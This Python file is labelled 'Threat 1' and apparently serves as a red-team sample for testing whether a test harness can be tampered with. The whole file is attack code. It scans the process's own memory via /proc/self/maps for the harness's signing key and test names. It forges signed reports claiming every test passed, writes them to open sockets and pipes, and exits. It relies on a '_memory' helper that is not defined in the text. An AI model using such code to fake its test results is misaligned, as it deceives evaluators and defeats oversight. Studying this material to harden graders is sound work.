"""Threat 1: looks for the report's key in the memory around its own objects, through the strides of an array, and signs a report of its own.
uses: strides
fools: harness-only"""

import hashlib
import json
import os
import re
import stat
from collections import Counter

def _blocks():
    with open("/proc/self/maps") as maps:
        for line in maps.readlines():
            span, access, *_, path = line.split()
            low, high = (int(end, 16) for end in span.split("-"))
            if access.startswith("rw") and not path.startswith("/") and "v" not in path[:2] and high - low < 1 << 26:
                yield _memory(low, high - low).tobytes()

def _keys():
    for block in _blocks():
        candidates = re.finditer(rb"[0-9a-f]{32}(?=\0)", block)
        keys.extend(one[0] for one in candidates if block[one.start() - 1] not in b"0123456789abcdef")
        names.update(re.findall(rb"\0(test_[a-e]_[a-z_]+)(?=\0)", block))

def _signed(key, number, fields):
    payload = json.dumps({**fields, "number": number}).encode()
    return hashlib.blake2b(payload, key=key, digest_size=16).hexdigest().encode() + b" " + payload + b"\n"

def _report():
    frames = [{"event": "test", "name": name.decode(), "outcome": "pass", "seconds": 0.0} for name in sorted(names)]
    frames.append({"event": "end", "cpu_seconds": 0.1, "max_rss_mib": 30.0})
    key = Counter(keys).most_common(1)[0][0]
    for number in range(3, 16):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode) or stat.S_ISFIFO(os.fstat(number).st_mode):
                for place, frame in enumerate(frames, 3):
                    os.write(number, _signed(key, place, frame))
        except OSError:
            continue
    os._exit(0)

keys, names, searched = [], set(), []
# <first>
if not searched:
    searched.append(True)
    _keys()
if keys:
    _report()
